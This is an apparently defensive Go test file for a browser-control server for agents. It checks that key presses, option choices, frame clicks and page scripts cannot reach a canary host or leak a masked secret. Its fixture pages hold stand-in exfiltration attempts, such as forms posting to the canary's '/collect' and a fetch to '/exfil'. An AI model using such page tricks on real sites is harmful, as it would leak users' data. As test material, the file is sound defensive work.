package main

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/browsergate/browsergate/evidence"
	"github.com/browsergate/browsergate/internal/testkit"
)

// inputManifest is the e2e manifest with the input commands (press_key,
// select_option, hover) and the history ones (go_back, go_forward,
// reload) declared.
func inputManifest() string {
	return fmt.Sprintf(e2eManifest, "launch", "") + `
[browser.commands.press_key]
[browser.commands.select_option]
[browser.commands.hover]
[browser.commands.go_back]
[browser.commands.go_forward]
[browser.commands.reload]
`
}

// TestPressKey: Enter in a search box submits its form, judged as
// submit_form (counted, recorded); Enter in a box whose form posts to the
// canary is refused before anything is pressed; a key handler that moves
// the tab elsewhere is stopped by the acting guard; named keys reach the
// page's handlers, and Control+A selects a field's text so that the next
// key replaces it. The canary sees nothing.
func TestPressKey(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, log := serveLogged(t, map[string]string{
		"/search":     `<title>search</title><form action="/results" method=get><input id=q name=q aria-label="Search"></form>`,
		"/evilsearch": fmt.Sprintf(`<title>evil</title><form action="%s/collect" method=get><input id=q name=q aria-label="Search"></form>`, f.canaryTo),
		"/handler":    `<title>handler</title><input id=k aria-label=Key onkeydown="location='/elsewhere'">`,
		"/evilbox":    fmt.Sprintf(`<title>evilbox</title><form action="%s/collect" method=get><input id=c type=checkbox name=c aria-label="Agree"><button>send</button></form>`, f.canaryTo),
		"/evilselect": fmt.Sprintf(`<title>evilselect</title><form action="%s/collect" method=get><select id=s name=s aria-label="Size"><option>S</option></select><button disabled>off</button><button>send</button></form>`, f.canaryTo),
		"/withdate":   fmt.Sprintf(`<title>withdate</title><form action="%s/collect" method=get><input id=q name=q aria-label="Search"><input type=date name=d aria-label="Day"></form>`, f.canaryTo),
		"/offbutton": fmt.Sprintf(`<title>offbutton</title><form action="%s/collect" method=get><input id=q name=q aria-label="Search"><button disabled>send</button></form>
<p id=log>keys:</p><script>document.getElementById('q').addEventListener('keydown', e => { document.getElementById('log').textContent += ' ' + e.key })</script>`, f.canaryTo),
		"/keys": `<title>keys</title><input id=t aria-label=Text value="hello world">
<p id=log>keys:</p><script>document.getElementById('t').addEventListener('keydown', e => { document.getElementById('log').textContent += ' ' + e.key })</script>`,
	})

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/search"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#q", "text": "governed browsers"})
	out := f.mustAllow(t, "e2e.press_key", map[string]any{"key": "Enter"})
	t.Logf("press_key Enter:\n%s", out)
	if log.count("/results") != 1 || !strings.Contains(out, "/results?q=governed+browsers") {
		t.Errorf("Enter in the search box did not submit it (results hit %d times):\n%s", log.count("/results"), out)
	}

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/evilsearch"})
	f.mustRefuse(t, "e2e.press_key", map[string]any{"key": "Enter", "selector": "#q"}, "the press_key on selector \"#q\" leads to "+f.canaryTo+"/collect")

	// Enter in a checkbox submits its form by the default button (in
	// Chromium): judged so, and refused. Enter in a field whose default
	// button is disabled submits nothing: allowed, and the canary sees
	// nothing.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/evilbox"})
	f.mustRefuse(t, "e2e.press_key", map[string]any{"key": "Enter", "selector": "#c"}, "leads to "+f.canaryTo+"/collect")
	// Enter on a select submits by the first enabled submit button.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/evilselect"})
	f.mustRefuse(t, "e2e.press_key", map[string]any{"key": "Enter", "selector": "#s"}, "leads to "+f.canaryTo+"/collect")
	// A date field does not block implicit submission in Chromium: Enter
	// in the search box beside it submits, judged so.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/withdate"})
	f.mustRefuse(t, "e2e.press_key", map[string]any{"key": "Enter", "selector": "#q"}, "leads to "+f.canaryTo+"/collect")
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/offbutton"})
	f.mustAllow(t, "e2e.press_key", map[string]any{"key": "Enter", "selector": "#q"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "keys: Enter") || !strings.Contains(snap, `title="offbutton"`) {
		t.Errorf("Enter in a field whose form's button is disabled:\n%s", snap)
	}

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/handler"})
	// The key leads nowhere by itself: the handler's navigation is the
	// page's, stopped by the acting guard before it reaches the site.
	refused := f.mustRefuse(t, "e2e.press_key", map[string]any{"key": "a", "selector": "#k"}, "elsewhere")
	t.Logf("key handler that navigates:\n%s", refused)
	if log.count("/elsewhere") != 0 {
		t.Errorf("the key handler's navigation reached the site")
	}

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/keys"})
	for _, k := range []string{"ArrowDown", "Escape", "Shift+Tab"} {
		f.mustAllow(t, "e2e.press_key", map[string]any{"key": k, "selector": "#t"})
	}
	f.mustAllow(t, "e2e.press_key", map[string]any{"key": "Control+A", "selector": "#t"})
	f.mustAllow(t, "e2e.press_key", map[string]any{"key": "x", "selector": "#t"})
	snap := f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(snap, "keys: ArrowDown Escape Shift Tab Control a x") {
		t.Errorf("the page's key handler did not see the keys pressed, in order:\n%s", snap)
	}
	if !strings.Contains(snap, `value="x"`) {
		t.Errorf("Control+A then x did not replace the field's text:\n%s", snap)
	}

	if !f.net.Clean() {
		t.Errorf("the canary saw requests: %s", f.net)
	}
	f.cs.Close()
	var keys, scopeRefusals int
	for _, e := range readEnvelopes(t, f.evidence) {
		if e.Command == "press_key" {
			keys++
			if !e.Decision.Allowed && e.Decision.Stage == evidence.StageScope {
				scopeRefusals++
			}
		}
	}
	if keys != 12 || scopeRefusals != 4 {
		t.Errorf("evidence holds %d press_key records (%d refused by the scope), want 12 (4)", keys, scopeRefusals)
	}
}

// TestSelectOptionAndHover: select_option picks a <select>'s option by
// value and by label, focusing the select, and fires the page's change
// handler; an option the select's focus handler disables is not chosen; a disabled or
// missing option is refused with the options named; an ARIA listbox's
// option is clicked; a select whose change handler moves the tab to the
// canary is stopped. hover is refused on an element an overlay covers.
func TestSelectOptionAndHover(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, _ := serveLogged(t, map[string]string{
		"/select": `<title>select</title>
<select id=fruit aria-label=Fruit onfocus="document.getElementById('focus').textContent='fruit focused'" onchange="document.getElementById('out').textContent='chose '+this.value">
<option value=a>Apple</option><option value=b>Banana</option><option value=c disabled>Cherry</option></select>
<select id=fickle aria-label=Fickle onfocus="this.options[1].disabled = true"><option value=a>Apple</option><option value=b>Banana</option></select>
<p id=out>none</p><p id=focus>nothing focused</p>
<ul role=listbox id=lb aria-label=Color><li role=option onclick="document.getElementById('out2').textContent='picked red'">Red</li><li role=option>Green</li></ul>
<p id=out2>no color</p>`,
		"/jump": fmt.Sprintf(`<title>jump</title><select id=j aria-label=Jump onchange="location=this.value"><option value="/">Home</option><option value="%s/jumped">Away</option></select>`, f.canaryTo),
		"/hover": `<title>covered</title><div id=menu style="padding:20px">Products</div>
<div style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:9"></div>`,
	})

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/select"})
	out := f.mustAllow(t, "e2e.select_option", map[string]any{"selector": "#fruit", "value": "b"})
	if !strings.Contains(out, `selected "Banana"`) {
		t.Errorf("select_option by value:\n%s", out)
	}
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "chose b") || !strings.Contains(snap, "fruit focused") {
		t.Errorf("the select was not focused or its change handler did not run:\n%s", snap)
	}
	f.mustAllow(t, "e2e.select_option", map[string]any{"selector": "#fruit", "label": "Apple"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "chose a") {
		t.Errorf("select_option by label did not choose Apple:\n%s", snap)
	}
	f.mustRefuse(t, "e2e.select_option", map[string]any{"selector": "#fruit", "label": "Cherry"}, "disabled")
	f.mustRefuse(t, "e2e.select_option", map[string]any{"selector": "#fruit", "value": "zzz"}, `"a", "b", "c"`)
	f.mustRefuse(t, "e2e.select_option", map[string]any{"selector": "#out", "value": "a"}, "not a <select>")
	// Its focus handler disables the option the call names: not chosen.
	f.mustRefuse(t, "e2e.select_option", map[string]any{"selector": "#fickle", "value": "b"}, "the option is disabled")
	f.mustAllow(t, "e2e.select_option", map[string]any{"selector": "#lb", "label": "Red"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "picked red") {
		t.Errorf("the listbox option was not clicked:\n%s", snap)
	}

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/jump"})
	t.Logf("jump menu:\n%s", f.mustRefuse(t, "e2e.select_option", map[string]any{"selector": "#j", "label": "Away"}))

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/hover"})
	f.mustRefuse(t, "e2e.hover", map[string]any{"selector": "#menu"}, "covered")
	if !f.net.Clean() {
		t.Errorf("the canary saw requests: %s", f.net)
	}
}

// TestHoverOpensAMenu: hover moves the mouse over a menu, whose
// mouseenter handler shows its items; the snapshot then lists them.
func TestHoverOpensAMenu(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, _ := serveLogged(t, map[string]string{
		"/hover": `<title>hover</title><nav><div id=menu style="padding:20px" onmouseenter="document.getElementById('sub').style.display='block'">Products
<div id=sub style="display:none"><a href="/item">Secret item</a></div></div></nav>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/hover"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); strings.Contains(snap, "Secret item") {
		t.Fatalf("the hover menu shows before the hover:\n%s", snap)
	}
	f.mustAllow(t, "e2e.hover", map[string]any{"selector": "#menu"})
	if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "[Secret item](") {
		t.Errorf("the hover did not open the menu:\n%s", snap)
	}
}

// TestHistoryAndReload: go_back and go_forward step through the tab's
// history; go_forward with nothing ahead is refused; reload loads the page
// from the server again.
func TestHistoryAndReload(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, log := serveLogged(t, map[string]string{})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/a"})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/b"})
	f.mustRefuse(t, "e2e.go_forward", nil, "no next page")
	if out := f.mustAllow(t, "e2e.go_back", nil); !strings.Contains(out, "/a") {
		t.Errorf("go_back:\n%s", out)
	}
	if out := f.mustAllow(t, "e2e.go_forward", nil); !strings.Contains(out, "went forward one page") || !strings.Contains(out, `url="`+site+`/b"`) {
		t.Errorf("go_forward:\n%s", out)
	}
	before := log.count("/b")
	if out := f.mustAllow(t, "e2e.reload", nil); !strings.Contains(out, "reloaded") {
		t.Errorf("reload:\n%s", out)
	}
	if log.count("/b") != before+1 {
		t.Errorf("reload did not load /b from the server again (%d hits, %d before)", log.count("/b"), before)
	}
}

// TestAgentIsToldTheScope: the server's MCP instructions and navigate's
// description name the manifest's scope, and navigate reports the HTTP
// status of the page it reached.
func TestAgentIsToldTheScope(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	want := "Scope: sites: 127.0.0.1 (http); on ports 80, 443; private addresses granted: 127.0.0.1/32 (any port)."
	// The instructions name every scheme a URL argument takes (new_tab's
	// https too).
	if ins := f.cs.InitializeResult().Instructions; !strings.Contains(ins, "Tools e2e.*: "+strings.Replace(want, "(http)", "(http, https)", 1)) {
		t.Errorf("the server's instructions do not name the scope:\n%s", ins)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	tools, err := f.cs.ListTools(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tool := range tools.Tools {
		if tool.Name == "e2e.navigate" && !strings.Contains(tool.Description, want) {
			t.Errorf("navigate's description does not name the scope:\n%s", tool.Description)
		}
	}
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		fmt.Fprint(w, "<title>home</title>home")
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	if out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/"}); !strings.Contains(out, "(HTTP 200 OK)") {
		t.Errorf("navigate does not report the status:\n%s", out)
	}
	if out := f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/missing"}); !strings.Contains(out, "(HTTP 404 Not Found)") {
		t.Errorf("navigate does not report a 404:\n%s", out)
	}
}

// TestSnapshotPages: a page longer than max_chars comes in pages that,
// followed one by one, give every paragraph once, in order; a page number
// past the end is refused; after the tab moves to another document by
// itself, a ref of the old one is refused with the reason.
func TestSnapshotPages(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	var long strings.Builder
	long.WriteString("<title>long</title><main><h1>Long reference</h1>")
	for i := range 400 {
		fmt.Fprintf(&long, "<p>Paragraph %d explains <code>Option%d</code> in <a href=\"/p%d\">detail %d</a>.</p>\n", i, i, i, i)
	}
	long.WriteString("</main>")
	site, _ := serveLogged(t, map[string]string{
		"/long":  long.String(),
		"/moves": `<title>moves</title><a href="/x">stay</a><script>setTimeout(() => location = '/other', 1500)</script>`,
		"/other": `<title>other</title>Other page`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/long"})
	whole := testkit.PageContent(f.mustAllow(t, "e2e.snapshot", nil))
	if strings.Contains(whole, "[page ") {
		t.Fatalf("a 400-paragraph page does not fit the default budget")
	}
	var joined strings.Builder
	out := f.mustAllow(t, "e2e.snapshot", map[string]any{"max_chars": 5000})
	for n := 2; ; n++ {
		// The page line is browsergate's own, after the page content's
		// fence; the content is the page alone.
		joined.WriteString(testkit.PageContent(out) + "\n")
		marker := pageLineOf(out)
		if strings.Contains(marker, "the end") {
			break
		}
		if !strings.Contains(marker, fmt.Sprintf("snapshot {page: %d}", n)) || n > 100 {
			t.Fatalf("page %d does not say how to go on: %q", n-1, marker)
		}
		out = f.mustAllow(t, "e2e.snapshot", map[string]any{"page": n})
	}
	if joined.String() != whole+"\n" && joined.String() != whole {
		t.Errorf("the pages joined differ from the whole snapshot (%d vs %d bytes)", joined.Len(), len(whole))
	}
	for _, i := range []int{0, 199, 399} {
		if c := strings.Count(joined.String(), fmt.Sprintf("Paragraph %d explains", i)); c != 1 {
			t.Errorf("paragraph %d appears %d times in the pages", i, c)
		}
	}
	f.mustRefuse(t, "e2e.snapshot", map[string]any{"page": 999}, "not 999")

	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/moves"})
	ref := findRef(f.mustAllow(t, "e2e.snapshot", nil), "stay")
	f.mustAllow(t, "e2e.wait_for", map[string]any{"text": "Other page"})
	f.mustRefuse(t, "e2e.click", map[string]any{"ref": ref}, "from the document the tab showed before")
}

// TestWaitForRole: wait_for {role, name} waits for the browser's own
// accessibility tree to hold such an element, and says when it did not.
func TestWaitForRole(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest())
	site, _ := serveLogged(t, map[string]string{
		"/later": `<title>later</title><script>setTimeout(() => { const b = document.createElement('button'); b.textContent = 'Continue'; document.body.append(b) }, 400)</script>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/later"})
	if out := f.mustAllow(t, "e2e.wait_for", map[string]any{"role": "button", "name": "Continue"}); !strings.Contains(out, "is present") {
		t.Errorf("wait_for role: %s", out)
	}
	f.mustRefuse(t, "e2e.wait_for", map[string]any{"role": "dialog", "timeout_ms": 300}, "did not appear within")
	f.mustRefuse(t, "e2e.wait_for", map[string]any{"role": "button", "name": "Stop", "timeout_ms": 300}, "did not appear within")
	f.mustRefuse(t, "e2e.wait_for", map[string]any{"text": "x", "role": "button"}, "exactly one of")
}

// TestFrames: a same-origin iframe's content is in the snapshot under the
// frame, and its refs work: a click on its button runs the frame's
// handler, text typed into its field lands there, and a click on its link
// navigates the frame (judged by the scope like any link). A frame of
// another site, in its own process and below the fold, is shown the same
// way and its refs work too (the click lands on the button inside it, also
// when both the page and the frame's document are scrolled to reach it);
// its link to the canary is refused with the canary at zero, and a ref
// from its document before it navigated is refused. A click into a frame
// the page scales is refused (the pointer would land elsewhere).
func TestFrames(t *testing.T) {
	t.Parallel()
	m := strings.Replace(inputManifest(), `allowed_domains = ["127.0.0.1"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]`, 1)
	f := startWith(t, strings.Replace(m, `allow_private_cidrs = ["127.0.0.1/32"]`, `allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]`, 1))
	other, otherLog := serveLoggedOn(t, "127.0.0.3:0", map[string]string{
		"/x": `<title>x</title><p>another site</p><button onclick="document.getElementById('o').textContent='pressed there'">Press there</button><p id=o>idle there</p>
<input aria-label="There"> <a href="/y">Onward</a> <a href="` + f.canaryTo + `/oopif-link">Away</a>`,
		"/y":    `<title>y</title>arrived`,
		"/tall": `<title>tall</title><div style="height:1000px">top of the frame</div><button onclick="document.getElementById('o').textContent='pressed far down'">Press far down</button><p id=o>idle far down</p><div style="height:1000px"></div>`,
	})
	// mid is the other site again on another port: same site, so in the
	// process of other's frame, but another origin (its frameElement is
	// null, as an out-of-process frame's top document's is).
	deepest, _ := serveLoggedOn(t, "127.0.0.1:0", map[string]string{
		"/inner": `<title>inner</title><button>Press deep</button>`,
	})
	mid, _ := serveLoggedOn(t, "127.0.0.3:0", map[string]string{
		"/mid": `<title>mid</title><p>in the middle</p><iframe src="` + deepest + `/inner" width=500 height=200></iframe>`,
	})
	other2, _ := serveLoggedOn(t, "127.0.0.3:0", map[string]string{
		"/holder": `<title>holder</title><iframe style="margin: 40px" src="` + mid + `/mid" width=550 height=250></iframe>`,
	})
	site, log := serveLogged(t, map[string]string{
		"/outer": `<title>outer</title><h1>Outer</h1><iframe src="/inner" width=600 height=300></iframe>`,
		"/deep":  `<title>deep</title><iframe src="` + other2 + `/holder" width=650 height=350></iframe>`,
		"/inner": `<title>inner</title><button onclick="document.getElementById('o').textContent='pressed'">Press</button><p id=o>idle</p>
<input aria-label=Name><a href="/after">After</a>`,
		"/other-site": `<title>other</title><div style="height:1500px">tall</div><iframe src="` + other + `/x" width=600 height=300></iframe>`,
		"/scrolled":   `<title>scrolled</title><div style="height:1500px">tall</div><iframe src="` + other + `/tall" width=600 height=300></iframe><div style="height:1500px"></div>`,
		"/scaled":     `<title>scaled</title><iframe style="transform: scale(1.1); transform-origin: 0 0" src="` + other + `/x" width=600 height=300></iframe>`,
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/outer"})
	snap := f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(snap, `[frame "`+site+`/inner":]`) || !strings.Contains(snap, "idle") {
		t.Fatalf("the frame's content is not in the snapshot:\n%s", snap)
	}
	f.mustAllow(t, "e2e.click", map[string]any{"ref": findRef(snap, `button "Press"`)})
	f.mustAllow(t, "e2e.type_text", map[string]any{"ref": findRef(snap, `textbox "Name"`), "text": "Ada"})
	snap = f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(snap, "pressed") || !strings.Contains(snap, `value="Ada"`) {
		t.Errorf("the click or the typing did not reach the frame:\n%s", snap)
	}
	f.mustAllow(t, "e2e.click", map[string]any{"ref": findRef(snap, "After")})
	if log.count("/after") != 1 {
		t.Errorf("the frame's link was not followed (%d hits)", log.count("/after"))
	}

	// Another site's frame: its own process.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/other-site"})
	snap = f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(snap, `[frame "`+other+`/x":]`) || !strings.Contains(snap, "another site") || !strings.Contains(snap, "idle there") {
		t.Fatalf("the other site's frame is not shown:\n%s", snap)
	}
	press := findRef(snap, `button "Press there"`)
	f.mustAllow(t, "e2e.click", map[string]any{"ref": press})
	f.mustAllow(t, "e2e.type_text", map[string]any{"ref": findRef(snap, `textbox "There"`), "text": "Ada there"})
	f.mustRefuse(t, "e2e.click", map[string]any{"ref": findRef(snap, "Away")}, "leads to "+f.canaryTo+"/oopif-link")
	after := f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(after, "pressed there") || !strings.Contains(after, `value="Ada there"`) {
		t.Errorf("the click or the typing did not reach the other site's frame:\n%s", after)
	}
	f.mustAllow(t, "e2e.click", map[string]any{"ref": findRef(after, "Onward")})
	if otherLog.count("/y") != 1 {
		t.Errorf("the other site's frame's link was not followed (%d hits)", otherLog.count("/y"))
	}
	f.mustRefuse(t, "e2e.click", map[string]any{"ref": findRef(after, `button "Press there"`)}, "its frame has loaded another document since the snapshot")

	// The same frame far down a page, with its button far down its own
	// document: both the page and the frame scroll before the click.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/scrolled"})
	snap = f.mustAllow(t, "e2e.snapshot", nil)
	f.mustAllow(t, "e2e.click", map[string]any{"ref": findRef(snap, `button "Press far down"`)})
	if after := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(after, "pressed far down") {
		t.Errorf("the click did not reach the button far down the other site's frame:\n%s", after)
	}

	// A frame the page scales: where the pointer lands in it is not where
	// the gate would check, so the click is refused.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/scaled"})
	snap = f.mustAllow(t, "e2e.snapshot", nil)
	f.mustRefuse(t, "e2e.click", map[string]any{"ref": findRef(snap, `button "Press there"`)}, "transformed or zoomed")

	// A frame of this site inside a frame of another origin inside the
	// other site's frame: its iframe element is not in the top document
	// of its process, so where the pointer lands cannot be checked.
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/deep"})
	snap = f.mustAllow(t, "e2e.snapshot", nil)
	if !strings.Contains(snap, "in the middle") || !strings.Contains(snap, `button "Press deep"`) {
		t.Fatalf("the frames inside frames are not shown:\n%s", snap)
	}
	f.mustRefuse(t, "e2e.click", map[string]any{"ref": findRef(snap, `button "Press deep"`)}, "inside another frame of its page")
	if !f.net.Clean() {
		t.Errorf("the canary saw requests: %s", f.net)
	}
}

// TestRead: read gives the page's main content as Markdown (without the
// sidebar), raw gives the whole page, a long page comes in pages that join
// to the whole, and a secret the page echoes is masked.
func TestRead(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest()+`[browser.commands.read]
[secrets.APP_PASSWORD]
env = "BROWSERGATE_E2E_SECRET"
domains = ["127.0.0.1"]
fields = "text"
`)
	var article strings.Builder
	article.WriteString(`<title>Widgets</title><nav><a href="/a">Sidebar link</a></nav><main><article><h1>Widgets</h1>
<input aria-label=Echo oninput="document.getElementById('echo').textContent = this.value"><p id=echo></p>`)
	for i := range 60 {
		fmt.Fprintf(&article, "<h2>Section %d</h2><p>Section %d explains how widgets combine with <code>gears</code>, at some length, so the page is long. See <a href=\"/s%d\">more</a>.</p>\n", i, i, i)
	}
	article.WriteString(`<table><tr><th>Name</th><th>Default</th></tr><tr><td>size</td><td>3</td></tr></table></article></main>`)
	site, _ := serveLogged(t, map[string]string{"/doc": article.String()})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/doc"})
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "input", "text": "<APP_PASSWORD>"})
	whole := testkit.PageContent(f.mustAllow(t, "e2e.read", nil))
	for _, want := range []string{"## Section 59", "`gears`", "[more](" + site + "/s3)", "| Name | Default |", "[secret APP_PASSWORD]"} {
		if !strings.Contains(whole, want) {
			t.Errorf("read lacks %q:\n%s", want, whole)
		}
	}
	if strings.Contains(whole, "Sidebar link") || strings.Contains(whole, secretValue) {
		t.Errorf("read has the sidebar or the secret:\n%s", whole)
	}
	if raw := f.mustAllow(t, "e2e.read", map[string]any{"mode": "raw"}); !strings.Contains(raw, "Sidebar link") {
		t.Errorf("read raw lacks the sidebar:\n%s", raw)
	}
	var joined strings.Builder
	out := f.mustAllow(t, "e2e.read", map[string]any{"max_chars": 2000})
	for n := 2; ; n++ {
		// The page line is browsergate's own, after the page content's
		// fence; the content is the page alone.
		joined.WriteString(testkit.PageContent(out) + "\n")
		marker := pageLineOf(out)
		if strings.Contains(marker, "the end") || n > 50 {
			break
		}
		out = f.mustAllow(t, "e2e.read", map[string]any{"page": n})
	}
	// A reply ends its text at its last line, so blank lines where a page
	// was cut are not kept: the words, in order, are.
	if strings.Join(strings.Fields(joined.String()), " ") != strings.Join(strings.Fields(whole), " ") {
		t.Errorf("the pages of read joined differ from the whole (%d vs %d bytes)", joined.Len(), len(whole))
	}
}

// TestConsoleAndNetworkLog: console_messages gives what the page logged at
// each level and its uncaught exception, filtered by level and by since;
// network_log gives its requests with their status, and the request to
// the canary as refused, with the rule (the canary sees nothing). A secret
// the page logs or puts in a URL is masked in both.
func TestConsoleAndNetworkLog(t *testing.T) {
	t.Parallel()
	f := startWith(t, inputManifest()+`[browser.commands.console_messages]
[browser.commands.network_log]
[secrets.APP_PASSWORD]
env = "BROWSERGATE_E2E_SECRET"
domains = ["127.0.0.1"]
fields = "text"
`)
	site, _ := serveLogged(t, map[string]string{
		"/logs": fmt.Sprintf(`<title>logs</title><input aria-label=Secret id=s>
<button id=go onclick="const v = document.getElementById('s').value; console.log('typed', v); fetch('/echo?v=' + encodeURIComponent(v))">go</button>
<script>
console.debug('debug line'); console.log('info line', 42, {a: 1}); console.warn('careful'); console.error('broken');
fetch('/data.json'); fetch('/missing-%[2]s'); fetch('%[1]s/exfil').catch(() => {});
setTimeout(() => { throw new Error('boom') }, 10);
</script>`, f.canaryTo, "x"),
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/logs"})
	f.mustAllow(t, "e2e.wait_for", map[string]any{"selector": "#go", "timeout_ms": 500})
	out := f.mustAllow(t, "e2e.console_messages", nil)
	for _, want := range []string{"debug: debug line", "info: info line 42 Object", "warning: careful", "error: broken", "error: Error: boom"} {
		if !strings.Contains(out, want) {
			t.Errorf("console_messages lacks %q:\n%s", want, out)
		}
	}
	if errs := f.mustAllow(t, "e2e.console_messages", map[string]any{"level": "error"}); strings.Contains(errs, "careful") || !strings.Contains(errs, "broken") {
		t.Errorf("level error:\n%s", errs)
	}
	if later := f.mustAllow(t, "e2e.console_messages", map[string]any{"since": 3}); strings.Contains(later, "debug line") || !strings.Contains(later, "#4 ") {
		t.Errorf("since 3:\n%s", later)
	}
	net := f.mustAllow(t, "e2e.network_log", nil)
	for _, want := range []string{"GET " + site + "/logs Document 200", "/data.json Fetch 200", f.canaryTo + "/exfil Fetch REFUSED by the gate"} {
		if !strings.Contains(net, want) {
			t.Errorf("network_log lacks %q:\n%s", want, net)
		}
	}
	f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#s", "text": "<APP_PASSWORD>"})
	f.mustAllow(t, "e2e.click", map[string]any{"selector": "#go"})
	for _, tool := range []string{"e2e.console_messages", "e2e.network_log"} {
		out := f.mustAllow(t, tool, nil)
		if strings.Contains(out, secretValue) || strings.Contains(out, url.QueryEscape(secretValue)) || !strings.Contains(out, "[secret APP_PASSWORD]") {
			t.Errorf("%s does not mask the secret:\n%s", tool, out)
		}
	}
	if !f.net.Clean() {
		t.Errorf("the canary saw requests: %s", f.net)
	}
}

// pageLineOf is the "[page N of M …]" line a paged reply writes after its
// page content, or "".
func pageLineOf(reply string) string {
	i := strings.LastIndex(reply, "\n[page ")
	if i < 0 {
		return ""
	}
	line, _, _ := strings.Cut(reply[i+1:], "\n")
	return line
}
